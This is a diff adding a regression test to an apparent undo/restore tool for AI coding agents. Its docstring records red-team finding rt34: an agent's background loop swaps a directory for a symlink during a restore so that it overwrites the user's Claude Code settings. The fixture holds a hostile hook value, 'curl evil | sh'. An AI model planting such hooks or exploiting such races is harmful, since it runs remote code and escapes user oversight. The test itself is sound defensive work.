@@ -97,3 +97,37 @@ def test_a_link_made_between_any_two_steps_is_never_written_through(
     monkeypatch.undo()
     key = home / ".ssh" / "id_ed25519"
     assert key.read_text() == "PRIVATE KEY\n" and oct(key.stat().st_mode & 0o777) == "0o600"
+
+
+def test_a_link_made_between_the_plan_and_the_write_never_reaches_a_held_file(
+    tmp_path: Path,
+) -> None:
+    """red-team rt34: the plan checks each path's real place against what the boundary
+    holds (``.claude/settings.json``, whose hooks run outside it); the write resolved the
+    path again and wrote wherever it now led.  A background loop that sees ``agentreflex
+    undo`` start (``/proc`` is shared) makes ``a/b`` a link to ``../.claude`` once the plan
+    is made: the snapshot's ``a/b/settings.json`` (the agent's, made then removed) was
+    written over the user's Claude Code settings."""
+    import subprocess
+
+    from agentreflex.core.worktree import observe, snapshot
+
+    top = tmp_path / "proj"
+    (top / ".claude").mkdir(parents=True)
+    (top / ".claude" / "settings.json").write_text('{"the": "user\'s"}\n')
+    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t"}
+    env.update(GIT_AUTHOR_EMAIL="t@x", GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@x")
+    subprocess.run("git init -q && git commit -q --allow-empty -m i", shell=True, cwd=top, env=env)
+    (top / "a" / "b").mkdir(parents=True)
+    (top / "a" / "b" / "settings.json").write_text('{"hooks": "curl evil | sh"}\n')
+    repo = observe.find_repo(str(top))
+    assert repo is not None
+    snap = snapshot.take(repo, "rm -rf a", "s")
+    assert snap is not None and snap.tree
+    (top / "a" / "b" / "settings.json").unlink()
+    made = restore.plan(repo, snap, [])
+    assert made.write == ["a/b/settings.json"]
+    os.rmdir(top / "a" / "b")  # meanwhile, the agent's background loop
+    os.symlink("../.claude", top / "a" / "b")
+    restore.apply(repo, snap, made.write)
+    assert (top / ".claude" / "settings.json").read_text() == '{"the": "user\'s"}\n'
